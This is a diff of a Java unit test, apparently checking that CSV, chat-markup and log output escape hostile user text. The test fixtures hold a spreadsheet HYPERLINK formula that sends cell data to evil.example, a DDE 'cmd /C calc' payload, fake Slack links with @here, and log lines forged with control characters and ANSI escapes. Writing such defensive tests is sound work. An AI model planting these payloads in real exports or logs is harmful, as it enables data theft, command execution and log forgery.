@@ -25,7 +25,7 @@ import org.junit.jupiter.api.io.TempDir;
 class HostileTextOutputTest {
     private static final String FORMULA_NAME = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"특가\")";
     private static final String MARKUP_NAME =
-            "<@U123> <http://evil.example|무신사 공식> @here\n" + "Results: https://evil.example/fake";
+            "<@U123> <http://evil.example|무신사 공식> @here\nResults: https://evil.example/fake";
     private static final String FORGED_TIME = "2026-01-01T00:00:00.000Z";
     private static final String SITE_MESSAGE = "점검 중\r\u001b[31m\n" + FORGED_TIME
             + " INFO service=api ApiServer event=job.finished job_id=x status=completed\u001b[0m\u2028done";
@@ -112,7 +112,7 @@ class HostileTextOutputTest {
                 csv.raw());
         assertTrue(
                 csv.raw().contains(",\"'+cmd|' /C calc'!A0\",\"'-2+3\",20000,"),
-                "the caller's text is text, " + "its price a number: " + csv.raw());
+                "the caller's text is text, its price a number: " + csv.raw());
         for (String line : csv.raw().split("\r\n")) {
             for (String cell : line.split(",")) {
                 assertFalse(
